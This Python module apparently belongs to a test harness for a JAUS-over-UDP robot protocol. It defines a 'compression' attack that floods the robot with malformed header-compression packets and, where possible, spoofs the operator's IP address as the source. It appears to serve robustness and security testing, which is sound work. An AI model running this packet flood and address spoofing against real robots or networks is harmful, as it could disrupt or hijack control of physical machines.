"""Poisoned header compression: proposals, answers and uses of templates, also with the operator's IP address."""

from __future__ import annotations

import contextlib
import random
import struct

from jauspy.protocol import judp
from jauspy.protocol.header import Packet

from ..arena import OPERATOR, ROBOT, STRANGER, Arena
from ..attack import Attack, Attacker, NotPossible
from ..stage import PORT

RATE = 3000
_PROPOSED, _ANSWERED, _COMPRESSED = 0x40, 0x80, 0xC0


def flagged(chance: random.Random) -> bytes:
    """A packet with a flag of compression, any number and any length."""
    kind = chance.choice((_PROPOSED, _ANSWERED, _COMPRESSED))
    packet = judp.pack(Packet(chance.choice((STRANGER, OPERATOR)), ROBOT, chance.randbytes(chance.randrange(40))))
    body = packet[4:] if kind != _COMPRESSED else packet[chance.randrange(4, len(packet)) :]
    length = chance.choice((0, 9, chance.randrange(256)))
    return struct.pack("<BBHBB", 2, kind, len(body) + 5, chance.randrange(8), length) + body


def run(arena: Arena) -> None:
    """From the attacker's own address, and, where IP can be forged, from the operator's."""
    chance, sock = arena.chance, arena.open(arena.attacker.udp())
    forger = None
    with contextlib.suppress(NotPossible):
        forger = arena.open(arena.attacker.forger())
    operator = (arena.hosts["operator"].address, PORT)
    for number in arena.paced(RATE):
        data = flagged(chance)
        if number % 2 and forger is not None:
            arena.sent += 1
            forger.send(data, operator, arena.where)
        else:
            arena.send(sock, data)


ATTACK = Attack("compression", Attacker.REMOTE, "datagrams", run)
